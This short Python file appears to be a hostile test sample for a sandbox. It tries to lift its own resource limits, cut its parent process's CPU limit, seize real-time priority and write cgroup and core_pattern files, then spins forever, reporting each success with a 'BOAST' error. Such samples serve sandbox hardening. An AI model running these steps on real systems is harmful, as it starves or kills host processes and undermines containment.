"""Raise one's own limits and priority, then work without an end."""

import contextlib
import os
import resource
from pathlib import Path

CLASS = "swallowing the timeout"
FREE = resource.RLIM_INFINITY


def attack(name, /, *args, **kwargs):
    for limit in range(16):
        with contextlib.suppress(OSError, ValueError):
            before = resource.getrlimit(limit)
            resource.setrlimit(limit, (FREE, FREE))
            if before[1] != FREE:
                raise RuntimeError(f"BOAST: limit {limit} was raised from {before}")
    for parent in (0, os.getppid()):
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(parent, resource.RLIMIT_CPU, (1, 1) if parent else (FREE, FREE))
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -20)
    with contextlib.suppress(OSError):
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
        raise RuntimeError("BOAST: this process runs before all others")
    for path in (Path("/sys/fs/cgroup/cgroup.procs"), Path("/proc/sys/kernel/core_pattern")):
        with contextlib.suppress(OSError), path.open("a") as file:
            raise RuntimeError(f"BOAST: {file.name} can be written")
    while True:
        sum(range(100))
